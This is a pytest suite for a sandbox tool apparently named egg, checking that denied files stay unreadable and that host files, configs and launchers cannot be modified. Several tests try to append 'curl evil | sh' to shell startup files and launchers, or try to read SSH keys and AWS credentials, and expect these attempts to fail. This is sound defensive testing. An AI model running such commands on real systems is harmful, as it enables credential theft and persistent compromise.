"""Filesystem escapes (DESIGN.md §9 G, H, I): denied paths stay unreadable whatever the route,
and nothing outside the writable paths changes on the host — least of all egg's own policy."""

from __future__ import annotations

import hashlib
import os
import sys
from pathlib import Path

import pytest

from .conftest import EGG, Box


def fingerprint(path: Path) -> tuple[str, int, int]:
    """(sha256, mtime_ns, inode) of a file: unchanged means not written, not replaced."""
    st = os.stat(path)
    return hashlib.sha256(path.read_bytes()).hexdigest(), st.st_mtime_ns, st.st_ino


# -- reading denied files (G)


def test_denied_directory_looks_empty(box: Box) -> None:
    ssh = box.home / ".ssh"
    found = box.probe(
        f"report(listing=os.listdir({str(ssh)!r}), read=attempt(read, {str(ssh / 'id_ed25519')!r}))"
    )

    assert found == {"listing": [], "read": "ENOENT"}


def test_denied_file_reads_as_empty(box: Box) -> None:
    result = box.exec("cat", str(box.home / ".netrc"), str(box.home / ".bash_history"))

    assert result.returncode == 0
    assert result.stdout == ""


def test_denied_file_cannot_be_written(box: Box) -> None:
    before = fingerprint(box.home / ".netrc")

    found = box.probe(f"report(write=attempt(write, {str(box.home / '.netrc')!r}))")

    assert found["write"] in ("EROFS", "EACCES", "EPERM")
    assert fingerprint(box.home / ".netrc") == before


def test_symlink_made_in_the_sandbox_does_not_reach_a_denied_file(box: Box) -> None:
    key = box.home / ".ssh" / "id_ed25519"
    result = box.exec("sh", "-c", f"ln -s {key} key-link; cat key-link; cat {box.home}/.aws/*")

    assert box.secret not in result.stdout + result.stderr


def test_symlink_planted_on_the_host_does_not_reach_a_denied_file(box: Box) -> None:
    (box.workspace / "planted").symlink_to(box.home / ".ssh")
    (box.workspace / "planted-aws").symlink_to(box.home / ".aws" / "credentials")

    result = box.exec("sh", "-c", "cat planted/id_ed25519; cat planted-aws; ls -a planted")

    assert box.secret not in result.stdout + result.stderr
    assert "id_ed25519" not in result.stdout


def test_deny_rule_on_a_symlink_hides_its_target(box: Box) -> None:
    target = box.write("private/token", box.secret)
    (box.workspace / "token-link").symlink_to(target)
    box.config({"fs": ["deny:./token-link"]})

    result = box.exec("sh", "-c", f"cat {target}; cat token-link; echo done")

    assert result.returncode == 0, result.stderr
    assert "done" in result.stdout
    assert box.secret not in result.stdout


def test_deny_rule_on_a_dangling_symlink_does_not_break_setup(box: Box) -> None:
    (box.workspace / "dangling").symlink_to(box.root / "nowhere")
    box.config({"fs": ["deny:./dangling", "deny:./missing-entirely"]})

    result = box.exec("echo", "started")

    assert result.returncode == 0, result.stderr
    assert result.stdout == "started\n"


def test_hardlink_to_a_denied_file_cannot_be_made(box: Box) -> None:
    found = box.probe(
        f"report(dir_file=attempt(os.link, {str(box.home / '.ssh' / 'id_ed25519')!r}, 'k1'),"
        f" file=attempt(os.link, {str(box.home / '.netrc')!r}, 'k2'))"
    )

    assert found["dir_file"] == "ENOENT"
    assert found["file"] in ("EXDEV", "EPERM", "EACCES")
    assert not (box.workspace / "k1").exists()
    assert not (box.workspace / "k2").exists()


def test_proc_1_root_gives_only_the_sandbox_view(box: Box) -> None:
    key = f"/proc/1/root{box.home}/.ssh/id_ed25519"
    egg_home = f"/proc/1/root{box.egg_home}"
    box.write(box.egg_home / "sessions" / "s1" / "egg.token", box.secret, 0o600)

    found = box.probe(
        f"report(key=attempt(read, {key!r}), "
        f"egg_home=os.listdir({egg_home!r}) if os.path.isdir({egg_home!r}) else None, "
        f"self_root=attempt(read, '/proc/self/root{box.home}/.netrc'))"
    )

    assert found["key"] in ("ENOENT", "EACCES")
    assert found["egg_home"] == []
    assert found["self_root"] == "ok"  # the empty stand-in, not the secret


def test_proc_self_root_shows_no_secret(box: Box) -> None:
    result = box.exec(
        "sh", "-c", f"cat /proc/self/root{box.home}/.netrc /proc/1/root{box.home}/.aws/credentials"
    )

    assert box.secret not in result.stdout


# -- writing outside the writable paths (I, H)


@pytest.mark.parametrize("path", ["/etc/egg-probe", "/usr/egg-probe", "/opt/egg-probe"])
def test_system_directories_are_read_only(box: Box, path: str) -> None:
    found = box.probe(f"report(write=attempt(write, {path!r}))")

    assert found["write"] in ("EROFS", "EACCES")
    assert not os.path.exists(path)


def test_home_outside_the_writable_dirs_is_read_only(box: Box) -> None:
    found = box.probe(f"report(write=attempt(write, {str(box.home / 'new-file')!r}))")

    assert found["write"] == "EROFS"
    assert not (box.home / "new-file").exists()


@pytest.mark.parametrize("name", [".bashrc", ".profile"])
def test_shell_startup_files_cannot_be_modified(box: Box, name: str) -> None:
    before = fingerprint(box.home / name)

    found = box.probe(
        f"report(append=attempt(write, {str(box.home / name)!r}, b'curl evil | sh\\n'),"
        f" replace=attempt(os.rename, {str(box.home / '.cache')!r}, {str(box.home / name)!r}))"
    )

    assert found["append"] == "EROFS"
    assert found["replace"] in ("EROFS", "EBUSY", "EXDEV")
    assert fingerprint(box.home / name) == before


def test_workspace_egg_yaml_cannot_be_changed(box: Box) -> None:
    config = box.config({"network": "none"})
    before = fingerprint(config)

    found = box.probe(
        "report(append=attempt(write, 'egg.yaml', b'network: \"*\"\\n'),"
        " unlink=attempt(os.unlink, 'egg.yaml'),"
        " rename=attempt(os.rename, 'egg.yaml', 'moved.yaml'),"
        " chmod=attempt(os.chmod, 'egg.yaml', 0o666))"
    )

    assert found == {"append": "EROFS", "unlink": "EBUSY", "rename": "EBUSY", "chmod": "EROFS"}
    assert fingerprint(config) == before


def test_sandbox_cannot_create_a_missing_egg_yaml(box: Box) -> None:
    found = box.probe(
        "report(create=attempt(write, 'egg.yaml', b'network: \"*\"\\nfs: [\"rw:/\"]\\n'))"
    )

    assert found["create"] != "ok"
    assert not (box.workspace / "egg.yaml").exists()


def test_config_base_in_a_subdirectory_cannot_be_swapped(box: Box) -> None:
    base = box.write(box.workspace / "conf" / "base.yaml", "network: none\n")
    box.config("base: ./conf/base.yaml\n")
    before = fingerprint(base)

    found = box.probe(
        "report(append=attempt(write, 'conf/base.yaml'),"
        " move_dir=attempt(os.rename, 'conf', 'conf-moved'),"
        " recreate=attempt(lambda: (os.makedirs('conf', exist_ok=True),"
        " write('conf/base.yaml', b'network: \"*\"\\n'))))"
    )

    assert found["append"] == "EROFS"
    assert found["move_dir"] == "EBUSY"
    assert fingerprint(base) == before
    assert base.read_text() == "network: none\n"


def test_egg_home_is_hidden(box: Box) -> None:
    box.write(box.egg_home / "sessions" / "s1" / "egg.token", box.secret, 0o600)
    box.write(box.egg_home / "tools" / "deploy.yaml", "name: deploy\nrun: true\n")

    result = box.exec("sh", "-c", f"ls -A {box.egg_home}; cat {box.egg_home}/sessions/*/*")

    assert result.stdout == ""
    assert box.secret not in result.stderr


@pytest.mark.parametrize("target", ["egg.yaml", "tools/evil.yaml", "bases/default.yaml"])
def test_egg_home_is_not_writable(box: Box, target: str) -> None:
    path = box.egg_home / target

    found = box.probe(
        f"report(write=attempt(lambda: (os.makedirs({str(path.parent)!r}, exist_ok=True),"
        f" write({str(path)!r}))))"
    )

    assert found["write"] in ("EROFS", "EACCES")
    assert not path.exists()


def test_egg_home_inside_the_workspace_stays_hidden_and_read_only(box: Box) -> None:
    egg_home = box.mkdir(box.workspace / "sub" / ".egg", mode=0o700)
    box.write(egg_home / "sessions" / "s1" / "egg.token", box.secret, 0o600)
    env = {"EGG_HOME": str(egg_home)}

    found = box.probe(
        f"report(listing=os.listdir({str(egg_home)!r}),"
        f" write=attempt(write, {str(egg_home / 'egg.yaml')!r}),"
        f" move=attempt(os.rename, 'sub', 'sub-moved'))",
        env=env,
    )

    assert found["listing"] == []
    assert found["write"] == "EROFS"
    assert found["move"] == "EBUSY"
    assert not (egg_home / "egg.yaml").exists()
    assert (egg_home / "sessions" / "s1" / "egg.token").read_text() == box.secret


def test_launcher_on_path_cannot_be_replaced_even_inside_a_writable_dir(box: Box) -> None:
    # the user's PATH finds egg in ~/.local/bin, and egg.yaml makes ~/.local writable
    launcher = box.write(".local/bin/egg", f'#!/bin/sh\nexec {EGG} "$@"\n', mode=0o755)
    box.config({"fs": ["rw:~/.local"]})
    env = {"PATH": f"{launcher.parent}:/usr/local/bin:/usr/bin:/bin"}
    before = fingerprint(launcher)

    found = box.probe(
        f"report(append=attempt(write, {str(launcher)!r}, b'curl evil | sh\\n'),"
        f" unlink=attempt(os.unlink, {str(launcher)!r}),"
        f" chmod=attempt(os.chmod, {str(launcher)!r}, 0o777),"
        f" move_dir=attempt(os.rename, {str(launcher.parent)!r},"
        f" {str(launcher.parent.with_name('bin-moved'))!r}),"
        f" other=attempt(write, {str(box.home / '.local' / 'share-probe')!r}))",
        env=env,
        egg=str(launcher),
    )

    assert found["append"] == "EROFS"
    assert found["unlink"] == "EBUSY"
    assert found["chmod"] == "EROFS"
    assert found["move_dir"] == "EBUSY"
    assert found["other"] == "ok"  # the rest of ~/.local is writable as asked
    assert fingerprint(launcher) == before


def test_egg_installation_is_read_only(box: Box) -> None:
    import egg_core

    package = Path(egg_core.__file__).parent
    probe = package / f"sandbox_probe_{box.secret}.py"
    try:
        found = box.probe(f"report(write=attempt(write, {str(probe)!r}))")
        assert found["write"] in ("EROFS", "EACCES")
        assert not probe.exists()
    finally:
        probe.unlink(missing_ok=True)


def test_launcher_symlink_on_path_cannot_be_replaced(box: Box) -> None:
    # pipx-style: ~/.local/bin/egg is a symlink into the installation, and ~/.local is writable
    launcher = box.write(".local/share/egg-venv/bin/egg", f'#!/bin/sh\nexec {EGG} "$@"\n', 0o755)
    link = box.home / ".local" / "bin" / "egg"
    box.mkdir(link.parent)
    link.symlink_to(launcher)
    os.chown(link, box.identity.uid, box.identity.gid, follow_symlinks=False)
    box.config({"fs": ["rw:~/.local"]})
    env = {"PATH": f"{link.parent}:/usr/local/bin:/usr/bin:/bin"}

    found = box.probe(
        f"report(unlink=attempt(os.unlink, {str(link)!r}),"
        f" replace=attempt(os.symlink, '/bin/true', {str(link)!r}),"
        f" append=attempt(write, {str(link)!r}, b'curl evil | sh\\n'))",
        env=env,
        egg=str(link),
    )

    assert found["unlink"] != "ok"
    assert found["append"] != "ok"
    assert os.readlink(link) == str(launcher)
    assert launcher.read_text().endswith(f'exec {EGG} "$@"\n')


def test_config_reached_through_a_symlink_in_the_workspace_is_refused(box: Box) -> None:
    # ./conf is a symlink in the writable workspace: the sandbox could point it at its own
    # base.yaml, and a symlink cannot be mounted over, so egg refuses to start
    box.write(box.workspace / "real-conf" / "base.yaml", "network: none\n")
    (box.workspace / "conf").symlink_to("real-conf")
    box.config("base: ./conf/base.yaml\n")

    result = box.exec("sh", "-c", "ln -sfn /tmp conf; touch started")

    assert result.returncode == 125
    assert "conf is a symlink" in result.stderr
    assert "Traceback" not in result.stderr
    assert not (box.workspace / "started").exists()
    assert os.readlink(box.workspace / "conf") == "real-conf"


def test_jail_mode_exposes_only_the_listed_paths(box: Box) -> None:
    box.write("notes/plan.txt", "visible\n")
    box.write(box.root / "sibling.txt", "hidden\n")
    box.config({"fs": ["deny:/", "rw:./", "ro:~/notes"]})

    found = box.probe(
        f"report(gitconfig=attempt(read, {str(box.home / '.gitconfig')!r}),"
        f" notes=read({str(box.home / 'notes' / 'plan.txt')!r}).decode(),"
        f" sibling=attempt(read, {str(box.root / 'sibling.txt')!r}),"
        f" aws=attempt(read, {str(box.home / '.aws' / 'credentials')!r}),"
        " etc=attempt(read, '/etc/passwd'),"
        " work=attempt(write, 'made-in-jail'))"
    )

    assert found == {
        "gitconfig": "ENOENT",
        "notes": "visible\n",
        "sibling": "ENOENT",
        "aws": "ENOENT",
        "etc": "ok",
        "work": "ok",
    }
    assert (box.workspace / "made-in-jail").exists()


def test_a_rule_reached_through_symlinks_does_not_uncover_a_deeper_deny(box: Box) -> None:
    # rw: names a deep path that resolves to a shallow one; the deny inside it must still hold
    real = box.root / "w"
    box.write(real / "secret.txt", box.secret)
    chain = box.root / "l1" / "l2" / "l3" / "l4"
    box.mkdir(chain.parent)
    chain.symlink_to(real)
    box.config({"fs": [f"deny:{real / 'secret.txt'}", f"rw:{chain}"]})

    found = box.probe(f"report(secret=read({str(real / 'secret.txt')!r}).decode())")

    assert box.secret not in found["secret"]


def test_a_deny_inside_egg_s_own_read_only_installation_holds(box: Box) -> None:
    # the installation is bound read-only after every rule; a deny beneath it comes back on top
    target = Path(sys.prefix).resolve() / "pyvenv.cfg"
    if not target.is_file():
        pytest.skip("egg is not installed in a virtual environment here")
    box.config({"fs": [f"deny:{target}"]})

    found = box.probe(f"report(cfg=read({str(target)!r}).decode())")

    assert found["cfg"] == ""


def test_two_spellings_of_one_directory_the_deny_wins(box: Box) -> None:
    box.write("a/secret/key.txt", box.secret)
    (box.root / "s").symlink_to(box.workspace / "a" / "secret")
    box.config({"fs": [f"deny:{box.root / 's'}", "rw:./a/secret"]})

    found = box.probe("report(key=attempt(read, 'a/secret/key.txt'))")

    assert found["key"] == "ENOENT"


def test_a_symlinked_rule_onto_egg_s_installation_does_not_uncover_a_deny_in_it(
    box: Box,
) -> None:
    venv = Path(sys.prefix).resolve()
    target = venv / "pyvenv.cfg"
    if not target.is_file():
        pytest.skip("egg is not installed in a virtual environment here")
    chain = box.root / "l1" / "l2" / "l3" / "l4" / "l5"
    box.mkdir(chain.parent)
    chain.symlink_to(venv)
    box.config({"fs": [f"deny:{target}", f"ro:{chain}"]})

    found = box.probe(f"report(cfg=read({str(target)!r}).decode())")

    assert found["cfg"] == ""


@pytest.mark.parametrize("rule", ["rw:/proc", "ro:/proc", "rw:/dev"])
def test_a_rule_cannot_bring_back_the_hosts_proc_or_dev(box: Box, rule: str) -> None:
    box.config({"fs": [rule]})

    found = box.probe(
        "report(pids=len([p for p in os.listdir('/proc') if p.isdigit()]),"
        " core=attempt(write, '/proc/sys/kernel/core_pattern', b'|/bin/false'),"
        " ro=bool(os.statvfs('/proc/sys').f_flag & os.ST_RDONLY))"
    )

    assert found["pids"] < 10  # the sandbox's own pid namespace
    assert found["core"] != "ok"
    assert found["ro"] is True


def test_a_deny_inside_egg_home_does_not_break_the_launch(box: Box) -> None:
    box.mkdir(box.egg_home / "stuff")
    result = box.exec("sh", "-c", "touch started", config={"fs": [f"deny:{box.egg_home}/stuff"]})

    assert result.returncode == 0, result.stderr
    assert (box.workspace / "started").exists()


def test_rules_under_proc_and_dev_still_apply(box: Box) -> None:
    # the sandbox's /proc and /dev are mounted before deeper rules, not over them
    device = next((d for d in ("/dev/fuse", "/dev/kvm", "/dev/net/tun") if os.path.exists(d)), None)
    rules = ["deny:/proc/kallsyms"] + ([f"rw:{device}"] if device else [])
    box.config({"fs": rules})

    found = box.probe(
        "report(kallsyms=len(read('/proc/kallsyms')),"
        f" device={device!r} is None or os.path.exists({device!r}))"
    )

    assert found == {"kallsyms": 0, "device": True}
